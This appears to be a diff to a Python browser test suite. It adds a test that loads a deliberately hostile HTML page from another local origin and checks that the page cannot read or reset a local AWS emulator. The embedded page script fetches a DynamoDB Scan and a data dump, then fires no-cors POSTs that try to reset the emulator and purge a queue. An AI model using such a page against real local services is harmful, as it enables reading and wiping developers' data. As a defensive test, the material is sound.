@@ -548,10 +548,10 @@ def test_the_timeline_draws_the_agreed_api_fields_when_present(browser: Any, con
 class Attacker:
     """A web server on another 127.0.0.1 port: what the browser sends it, and what its page learns."""
 
-    def __init__(self, console: Any) -> None:
+    def __init__(self, html: str) -> None:
         self.seen: list[str] = []  # every request line, header and body it received
         self.reports: list[dict[str, Any]] = []
-        page = ATTACK_PAGE.replace("{{console}}", console.base_url).encode()
+        page = html.encode()
         attacker = self
 
         class Handler(BaseHTTPRequestHandler):
@@ -614,7 +614,7 @@ def test_a_page_on_another_local_port_receives_nothing_of_the_console(browser: A
     assert token not in browser.current_url  # the fragment left the address bar
     stored = browser.execute_script("return sessionStorage.getItem('loom-console-token')")
     assert stored == token and browser.execute_script("return document.cookie") == ""
-    attacker = Attacker(stack.console)
+    attacker = Attacker(ATTACK_PAGE.replace("{{console}}", stack.console.base_url))
     try:
         browser.get(attacker.url + "/")
         wait_for("the page's report", lambda: attacker.reports, timeout=30)
@@ -629,3 +629,47 @@ def test_a_page_on_another_local_port_receives_nothing_of_the_console(browser: A
     for name in ("with_cookies", "info", "header"):
         assert report[name].startswith("blocked:"), (name, report[name])  # CORS: no answer to read
     assert report["no_cors"].startswith("opaque:0:") and report["no_cors"].endswith(":")  # nothing readable
+
+
+# The emulator from a foreign page: read a Scan (moto reflected the Origin, so this worked),
+# reset everything with a "simple" POST (no preflight: the side effect happens even unread).
+EMULATOR_PAGE = """<!doctype html><meta charset=utf-8><title>elsewhere</title><script>
+(async () => {
+  const e = "{{emulator}}", out = {};
+  async function attempt(name, url, init) {
+    try {
+      const r = await fetch(url, init);
+      out[name] = r.type + ":" + r.status + ":" + (await r.text()).slice(0, 300);
+    } catch (err) { out[name] = "blocked:" + err.name; }
+  }
+  const scan = {"x-amz-target": "DynamoDB_20120810.Scan", "content-type": "application/x-amz-json-1.0"};
+  await attempt("scan", e + "/", {method: "POST", headers: scan, body: JSON.stringify({TableName: "{{table}}"})});
+  await attempt("reset", e + "/moto-api/reset", {method: "POST", mode: "no-cors"});
+  await attempt("dump", e + "/moto-api/data.json", {});
+  await attempt("queue", e + "/", {method: "POST", mode: "no-cors",
+    headers: {"content-type": "application/x-www-form-urlencoded"}, body: "Action=PurgeQueue&QueueUrl={{queue}}"});
+  await fetch("/report", {method: "POST", body: JSON.stringify(out)});
+})();
+</script>"""
+
+
+def test_a_page_on_another_origin_can_neither_read_nor_reset_the_emulator(browser: Any, stack: LocalStack) -> None:
+    ddb = stack.client("dynamodb")
+    ex_id = start(stack.api, "order_fulfillment", {"order_id": "page-1", "amount": 1})
+    wait_status(stack.api, ex_id, "SLEEPING")
+    before = ddb.scan(TableName=stack.refs["Table"])["Count"]
+    assert stack.endpoint_url is not None
+    page = EMULATOR_PAGE.replace("{{emulator}}", stack.endpoint_url).replace("{{table}}", stack.refs["Table"])
+    attacker = Attacker(page.replace("{{queue}}", stack.refs["StepQueue"]))
+    try:
+        browser.get(attacker.url + "/")
+        wait_for("the page's report", lambda: attacker.reports, timeout=30)
+    finally:
+        attacker.stop()
+    (report,) = attacker.reports
+    assert report["scan"].startswith("blocked:"), report["scan"]  # no CORS answer: nothing read
+    assert report["dump"].startswith("blocked:"), report["dump"]
+    assert ex_id not in json.dumps(report)
+    # The simple POSTs went out (no preflight) and were refused: nothing was reset or purged.
+    assert ddb.scan(TableName=stack.refs["Table"])["Count"] >= before > 0
+    assert status_of(stack.api, ex_id)["status"] in ("SLEEPING", "COMPLETED")
